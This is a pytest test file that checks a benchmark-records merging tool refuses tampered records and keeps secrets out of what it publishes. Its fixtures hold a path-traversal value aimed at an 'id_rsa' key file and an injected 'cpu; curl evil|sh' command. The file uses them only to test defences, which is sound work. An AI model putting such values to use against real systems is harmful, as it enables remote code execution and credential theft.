"""A record from elsewhere that is refused is a row `unreadable` with its reason, and nothing else."""

import json
from pathlib import Path

import pytest
import synthetic

from whichdevice.config.load import load_study
from whichdevice.errors import StudyError
from whichdevice.figures.results import StudyResults
from whichdevice.merging.merge import merge_records, with_devices
from whichdevice.merging.published import published_study
from whichdevice.records.store import read_record
from whichdevice.storage.place import open_place
from whichdevice.storage.publish import publish
from whichdevice.tables.collect import collect
from whichdevice.tables.columns import table, write_table
from whichdevice.tables.runs import COLUMNS

SECRET = "id_rsa"
CONFIG = synthetic.SMALL
RENAMED = {"from": "other", "rename": {"cpu": "laptop"}}


def _outside(content: dict, path: Path) -> None:
    content["artefacts"] = {"predictions": {"file": "../" * len(path.parts) + SECRET, "sha256": "0"}}


def _another_run(content: dict, path: Path) -> None:
    content["run"] = content["run"].replace("/r1", "/r7")


def _another_device(content: dict, path: Path) -> None:
    content["run"] = content["run"].replace("cpu/", "laptop/", 1)
    content["asked"]["device"] = "laptop"


def _no_kind(content: dict, path: Path) -> None:
    content["asked"]["kind"] = "cpu; curl evil|sh"


LIES = {
    "artefact 'predictions' is no file beside the record": _outside,
    "says that it is of another run than its path": _another_run,
    "says that it is of another run than its path ": _another_device,
    "is no kind of device": _no_kind,
}


@pytest.fixture(params=LIES.items(), ids=[lie.__name__.strip("_") for lie in LIES.values()])
def reason(request, working_folder) -> str:
    """Why the first record of results folder `other` is refused."""
    (working_folder.parent / SECRET).write_text("secret")
    (working_folder / SECRET).write_text("secret")
    synthetic.write_study(synthetic.small_study(), working_folder / "other", devices=["cpu"])
    first = sorted((working_folder / "other/runs").rglob("record.json"))[0]
    content = json.loads(first.read_text())
    reason, lie = request.param
    lie(content, first)
    first.write_text(json.dumps(content))
    return reason.strip()


def _rows(study, paths) -> list[dict]:
    rows, _ = collect(study, paths)
    return [row for row in rows if row["record"] in {path.as_posix() for path in paths}]


def _check(study, paths: list[Path], root: Path, reason: str) -> None:
    """One of four is unreadable for that reason, its artefacts are nowhere, and publish takes none from outside."""
    rows = _rows(study, paths)
    bad = [row for row in rows if row["status"] == "unreadable"]
    assert len(bad) == 1 and sum(row["status"] == "ok" for row in rows) == 3
    assert reason in bad[0]["reason"] and "throughput" not in bad[0]
    with pytest.raises(StudyError, match=reason):
        read_record(Path(bad[0]["record"]))
    write_table(table(rows, COLUMNS), root / "tables/runs.csv")
    shown = StudyResults(root / "config.yaml", root / "tables")
    assert shown.record(shown.runs[shown.runs["status"] == "unreadable"].iloc[0]) is None
    bucket = open_place("bucket")
    publish(root, bucket)
    assert not [name for name in bucket.listing() if SECRET in name]
    assert b"secret" not in b"".join(path.read_bytes() for path in Path("bucket").rglob("*") if path.is_file())


def test_merged(reason):
    call = load_study({**CONFIG, "merge": [RENAMED]})
    found = merge_records(call)
    call = with_devices(call, found)
    assert call.devices["laptop"].kind == "cpu"
    _check(call, [each.path for each in found.runs.values()], Path("results/small"), reason)


def test_merged_again_it_is_asked_for_anew_and_its_row_stays_as_it_was(reason):
    call = load_study({**CONFIG, "merge": [RENAMED]})
    paths = [each.path for each in merge_records(call).runs.values()]
    before = {path: (path.read_bytes(), path.stat().st_mtime_ns) for path in paths}
    merge_records(call)
    assert {path: (path.read_bytes(), path.stat().st_mtime_ns) for path in paths} == before
    synthetic.write_study(synthetic.small_study(), Path("other"), devices=["cpu"])
    merge_records(call)
    assert all(read_record(path).status == "ok" for path in paths)


def test_what_stands_for_it_names_neither_the_source_nor_a_path_of_this_machine(reason, working_folder):
    call = load_study({**CONFIG, "merge": [{**RENAMED, "from": str(working_folder / "other")}]})
    for each in merge_records(call).runs.values():
        assert str(working_folder) not in each.path.read_text()


def test_fetched(reason):
    study = published_study("other")
    root = Path("results/small")
    (root / "config.yaml").write_bytes(Path("other/config.yaml").read_bytes())
    _check(study, sorted(root.rglob("record.json")), root, reason)
